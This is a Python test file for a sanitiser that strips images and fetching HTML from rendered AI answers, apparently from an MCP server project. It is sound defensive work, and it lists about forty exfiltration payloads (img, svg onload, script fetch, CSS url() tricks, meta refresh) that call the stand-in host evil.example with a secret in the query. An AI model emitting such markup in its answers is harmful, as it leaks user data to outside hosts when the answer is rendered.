"""Answers that are rendered as Markdown or HTML fetch nothing unasked."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from amber_mcp.text.markdown import without_images


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("![logo](https://w.example/l.png)", "[logo](https://w.example/l.png)"),
        ("![](https://w.example/t?q=secret)", "[](https://w.example/t?q=secret)"),
        ("![a\nb](https://w.example/l.png)", "[a\nb](https://w.example/l.png)"),
        ("![a](//w.example/l.png)", "[a](//w.example/l.png)"),
        ("![a][ref]", "! [a][ref]"),
        ("vec![1, 2, 3][0] and x![0][1]", "vec! [1, 2, 3][0] and x! [0][1]"),
        ("!![a](https://w.example/)", "! [a](https://w.example/)"),
        (r"\![a](https://w.example/)", r"\! [a](https://w.example/)"),
        ("![a [b] c](https://w.example/)", "! [a [b] c](https://w.example/)"),
        ("![foo]\n\n[foo]: https://w.example/", "! [foo]\n\n[foo]: https://w.example/"),
        ("<img src='https://w.example/l.png' alt=x>", "< img src='https://w.example/l.png' alt=x>"),
        ("<IMG\nsrc=x.png>", "< IMG\nsrc=x.png>"),
        ("<image src=x.png>", "< image src=x.png>"),
        ("<svg><image href='x.png'/></svg>", "<svg>< image href='x.png'/></svg>"),
        ("<style>@import '//w.example';</style>", "< style>@import '//w.example';</style>"),
    ],
)
def test_images_become_links_or_text(text: str, clean: str) -> None:
    assert without_images(text) == clean


@pytest.mark.parametrize(
    "text",
    [
        "Great! [link](https://w.example/) <https://w.example/?a=b> <anna@w.example>",
        "<imgx> wow! [a](https://w.example/)",
        "if a < b and b > c, or a <= b",
        "Map<String, List<Integer>> and #include <stdio.h> and <your name>",
        "one<br>two<br/>H<sub>2</sub>O <details open><summary>More</summary></details>",
        "<a href='https://w.example/?a=b&c=d' target=\"_blank\" rel='noopener'>page</a>",
        '<td style="text-align: right" colspan=2>7</td>',
    ],
)
def test_what_fetches_nothing_stays_as_it_is(text: str) -> None:
    assert without_images(text) == text


LEADING_NOWHERE = {"align", "alt", "class", "id", "style", "title", "type", "value", "width"}
RENDERERS = [MarkdownIt("js-default", {"html": html}).render for html in (True, False)]


def pages_with(text: str) -> list[str]:
    """Pages that show `text` as HTML, as Markdown with HTML in it, and as Markdown alone."""
    return [f"<div>{text}</div>", *(render(f"{text}\n") for render in RENDERERS)]


def fetches(page: str) -> bool:
    """Whether a tag of `page` is an image or code, or has an attribute that may lead somewhere."""
    found: list[bool] = []

    class Page(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append(tag in ("img", "image", "script", "style"))
            for name, value in attrs:
                if name == "style":
                    found.append(bool(re.search(r"[(@\\]", value or "")))
                elif value and (tag, name) != ("a", "href") and "?" not in name:
                    found.append(name not in LEADING_NOWHERE)

    parser = Page()
    parser.feed(page)
    parser.close()
    return any(found)


EVIL = "https://evil.example/x?q=secret"
FETCHING = [
    f"!![a]({EVIL})",
    f"![a [b] c]({EVIL})",
    f"![a\\]b]({EVIL})",
    f"![`]`]({EVIL})",
    f"\\\\![a]({EVIL})",
    f"![{'a' * 600}]({EVIL})",
    f"![foo]\n\n[foo]: {EVIL}",
    f"![foo][]\n\n[foo]: {EVIL}",
    f"!<img src=x>[a]({EVIL})",
    f"<img src={EVIL}",
    f"<img/src={EVIL}>",
    f"<img alt='>' src={EVIL}>",
    f"<image src={EVIL}>",
    f"<svg><image href='{EVIL}'/><use href='{EVIL}'/></svg>",
    f"<svg onload=fetch('{EVIL}')>",
    f"<video poster={EVIL}></video>",
    f"<audio src={EVIL}>",
    f"<picture><source srcset='{EVIL}'></picture>",
    f"<iframe src={EVIL}></iframe>",
    f"<input type=image src={EVIL}>",
    f"<object data={EVIL}></object>",
    f"<embed src={EVIL}>",
    f"<link rel=stylesheet href={EVIL}>",
    f'<link href="{EVIL}" rel="icon">',
    f"<body background={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<style>@import '{EVIL}';</style>",
    f"<script>fetch('{EVIL}')</script>",
    f'<b style="background:url({EVIL})">x</b>',
    f'<b style="background:url&lpar;{EVIL}&rpar;">x</b>',
    f'<b style="background:\\75rl\\28{EVIL}\\29">x</b>',
    f"<b style=background:url({EVIL})>x</b>",
    f"<b title='>' style='background:url({EVIL})'>x</b>",
    f'<b\vtitle="x style=background:url({EVIL})">x</b>',
    f'<b\xa0title="x style=background:url({EVIL})">x</b>',
    f"<div>\n<https:///style=background:url({EVIL})>x\n</div>",
    f"> <b x\n> style='background:url({EVIL})'>x",
    f"> <b class='x'\n> style='background:url({EVIL})'>x",
    f"<div title='x\n\ny'> style=background:url({EVIL})",
    f"<b <i style=background:url({EVIL})>x",
]


@pytest.mark.parametrize("text", FETCHING)
def test_nothing_is_fetched_when_an_answer_is_rendered(text: str) -> None:
    assert any(map(fetches, pages_with(text)))
    assert not any(map(fetches, pages_with(without_images(text))))


SYNTAX = [*"![]()\\`<>/=\"':&|-ab \n\t\v\xa0", "```", "]:", "</", "<!--", "-->", "<![CDATA[", "<?"]
NAMES = ["img", "image", "svg", "style", "script", "href", "src", "title", "url(", "//e", "\n\n"]
PIECES = st.sampled_from([*SYNTAX, *NAMES, "\n> ", "\n- ", *FETCHING])


@given(st.lists(PIECES, max_size=30).map("".join))
def test_nothing_is_fetched_however_an_answer_is_put_together(text: str) -> None:
    clean = without_images(text)
    assert "![" not in clean
    assert not any(map(fetches, pages_with(clean)))
    assert without_images(clean) == clean
    assert re.sub(r"[! ]", "", clean) == re.sub(r"[! ]", "", text)


@pytest.mark.parametrize(
    "piece",
    ["![", "!", "<img", "<img ", "<", "<a", "<a ", "<a href='", '<a title="x" ', "<b x= ", "![a]("],
)
def test_images_are_found_in_time_in_hostile_text(piece: str) -> None:
    text = piece * (400_000 // len(piece))
    began = time.process_time()
    without_images(text)
    without_images(piece[:2] + " " * 200_000 + piece[2:])
    without_images(piece + " title='x'" * 40_000)
    assert time.process_time() - began < 5
